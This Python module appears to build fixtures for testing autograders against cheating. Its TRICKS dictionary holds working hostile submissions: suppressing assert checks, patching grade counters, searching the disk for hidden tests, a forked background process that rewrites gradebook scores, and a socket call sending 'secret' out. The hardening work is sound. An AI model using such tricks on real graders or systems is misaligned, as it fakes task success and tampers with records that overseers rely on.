"""The assignment, ``add(a, b)`` with three checks of one point, in the form of each grader."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

__all__ = ["CHECKS", "HONEST", "TRICKS", "lab", "nbgrader_course", "notebook", "otter_master"]

CHECKS = ("add(1, 2) == 3", "add(-4, 4) == 0", "add(10**20, 1) == 10**20 + 1")
HONEST = "def add(a, b):\n    return a + b\n"

TRICKS = {
    "leave the process in a call": """
import os
def add(a, b):
    os._exit(0)
""",
    "answer with an object equal to everything": """
class Yes:
    def __eq__(self, other): return True
    __hash__ = None
def add(a, b): return Yes()
""",
    "read the expected value in the caller's code": """
import sys
def add(a, b):
    frame = sys._getframe(1)
    found = [c for c in frame.f_code.co_consts if isinstance(c, int) and c not in (a, b)]
    return found[-1] if found else -1
""",
    "take the asserts out of later cells": """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
try: get_ipython().ast_transformers.append(NoAsserts())
except NameError: pass
def add(a, b): return -1
""",
    "patch what counts failures": """
import sys
def quiet(*args, **keywords): return None
try: get_ipython().showtraceback = quiet
except NameError: pass
for name, module in list(sys.modules.items()):
    if name.startswith(("otter.test_files", "_pytest.runner")):
        for value in list(vars(module).values()):
            if isinstance(value, type) and hasattr(value, "passed_all"):
                value.passed_all = property(lambda self: True)
            if isinstance(value, type) and hasattr(value, "grade"):
                value.grade = property(lambda self: 1.0)
def add(a, b): return -1
""",
    "find the hidden check on the disk": """
import os, re
def add(a, b):
    for top in (".", "..", os.path.expanduser("~"), "/tmp"):
        for folder, folders, files in os.walk(top):
            folders[:] = [f for f in folders if not f.startswith((".", "v")) or f == ".otter"]
            for name in files:
                if not name.endswith((".ipynb", ".py", ".db", ".json")): continue
                try: text = open(os.path.join(folder, name), "rb").read(2_000_000).decode("latin-1")
                except OSError: continue
                call = re.escape(f"add({a}, {b}) == ".replace(str(10**20), "10**20"))
                found = re.search(call + r"([-0-9*+ ]+)", text)
                if found: return 10**20 + 1 if "**" in found[1] else int(found[1])
    return -1
""",
    "change the grade from a process left behind": """
import os, re, sqlite3, time
if os.fork() == 0:
    os.setsid()
    for fd in range(3, 256):
        try: os.close(fd)
        except OSError: pass
    end = time.time() + 12
    while time.time() < end:
        open("/dev/shm/MARK_HERE", "a").close()
        for top in ("GRADES_HERE", "."):
            for folder, _, files in os.walk(top):
                for name in files:
                    path = os.path.join(folder, name)
                    try:
                        if name == "gradebook.db":
                            db = sqlite3.connect(path, timeout=1)
                            db.execute("update grade set auto_score = 1")
                            db.commit(); db.close()
                        elif name in ("results.json", "report.json", "grades.csv"):
                            text = open(path).read()
                            open(path, "w").write(re.sub(r'("score": )[0-9.]+', r"\\g<1>3.0", text))
                    except Exception: pass
        time.sleep(0.2)
    os._exit(0)
def add(a, b): return -1
""",
    "write into the home of the grader's user": """
import os
def add(a, b):
    open(os.path.join(os.environ.get("REAL_HOME", "HOME_HERE"), "MARK_HERE"), "w").close()
    return -1
""",
    "call home over the network": """
import socket
def add(a, b):
    socket.create_connection(("127.0.0.1", PORT_HERE), 2).sendall(b"secret")
    return -1
""",
    "never end": """
def add(a, b):
    while True: pass
""",
}
"""Each deserves 0 of 3. ``PORT_HERE`` and the other ``_HERE`` are filled in."""


def notebook(cells: list[dict[str, Any]], **metadata: Any) -> str:
    """An nbformat 4.5 notebook of `cells`."""
    for number, cell in enumerate(cells):
        cell.setdefault("metadata", {})
        cell["id"] = f"cell-{number}"
        if cell["cell_type"] == "code":
            cell |= {"outputs": [], "execution_count": None}
    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
    content = {"cells": cells, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(content | {"metadata": {"kernelspec": kernel, **metadata}})


def _code(source: str, **metadata: Any) -> dict[str, Any]:
    return {"cell_type": "code", "source": source, "metadata": metadata}


def nbgrader_course(folder: Path, timeout_s: int) -> None:
    """A course with the assignment ``ps1``, its third check hidden."""
    common = {"schema_version": 3, "task": False, "cell_type": "code"}
    answer = {"grade": False, "solution": True, "locked": False, "grade_id": "add"}
    solution = f"### BEGIN SOLUTION\n{HONEST}### END SOLUTION"
    cells = [_code(solution, nbgrader=common | answer)]
    for i, check in enumerate(CHECKS):
        source = f"assert {check}"
        if i == 2:
            source = f"### BEGIN HIDDEN TESTS\n{source}\n### END HIDDEN TESTS"
        test = {"grade": True, "solution": False, "locked": True, "points": 1}
        cells.append(_code(source, nbgrader=common | test | {"grade_id": f"check-{i}"}))
    source = folder / "source" / "ps1" / "p.ipynb"
    source.parent.mkdir(parents=True)
    source.write_text(notebook(cells))
    (folder / "nbgrader_config.py").write_text(
        "c = get_config()\n"
        "c.CourseDirectory.course_id = 'course'\n"
        f"c.CourseDirectory.root = {str(folder)!r}\n"
        f"c.ExecutePreprocessor.timeout = {timeout_s}\n"
    )


def otter_master(path: Path) -> None:
    """otter's master notebook of the same assignment."""

    def raw(source: str) -> dict[str, Any]:
        return {"cell_type": "raw", "source": source}

    config = (
        "# ASSIGNMENT CONFIG\nname: ps1\ninit_cell: false\nrun_tests: false\n"
        "tests:\n    ok_format: false\ngenerate:\n    seed: 1\n    pdf: false\n"
    )
    cells = [
        raw(config),
        raw("# BEGIN QUESTION\nname: q1\npoints: 3"),
        {"cell_type": "markdown", "source": "Write `add`."},
        raw("# BEGIN SOLUTION"),
        _code(HONEST.replace("return a + b", "return a + b # SOLUTION")),
        raw("# END SOLUTION"),
        raw("# BEGIN TESTS"),
    ]
    for i, check in enumerate(CHECKS):
        hidden = "hidden: true\n" if i == 2 else ""
        head = f'""" # BEGIN TEST CONFIG\npoints: 1\n{hidden}""" # END TEST CONFIG\n'
        cells.append(_code(f"{head}def check_{i}(add):\n    assert {check}\ncheck_{i}(add)"))
    cells += [raw("# END TESTS"), raw("# END QUESTION")]
    path.parent.mkdir(parents=True)
    path.write_text(notebook(cells))


_INDEX = """
[[tracks]]
slug = "tiny"
title = "Tiny"
system = "Tiny"
summary = "One function."
[[tracks.modules]]
slug = "01-add"
title = "Add"
summary = "One function."
available = true
lessons = [{ topic = "one", title = "One" }]
[tracks.modules.capstone]
title = "Add"
package = "answer"
pass_mark = 70
allowed_imports = ALLOWED_HERE
criteria = [{ id = "1", title = "Adding", points = 100, required = true }]
"""


def lab(folder: Path, allowed: tuple[str, ...]) -> None:
    """A lab of ours with the assignment as its only capstone, one test for each check."""
    names = "[" + ", ".join(f'"{name}"' for name in allowed) + "]"
    folder.mkdir(parents=True)
    (folder / "curriculum.toml").write_text(_INDEX.replace("ALLOWED_HERE", names))
    suite = folder / "grader" / "acceptance" / "tiny" / "test_add.py"
    suite.parent.mkdir(parents=True)
    tests = ["import pytest", "from grader.judging.compare import expect"]
    for i, check in enumerate(CHECKS):
        call, _, want = check.partition(" == ")
        tests.append(
            f'\n\n@pytest.mark.criterion("1", points={(34, 33, 33)[i]})\n'
            f'def test_{i}(submission):\n    """Adds."""\n'
            f'    expect(submission.{call}, {want}, call="{call}")'
        )
    suite.write_text("\n".join(tests) + "\n")
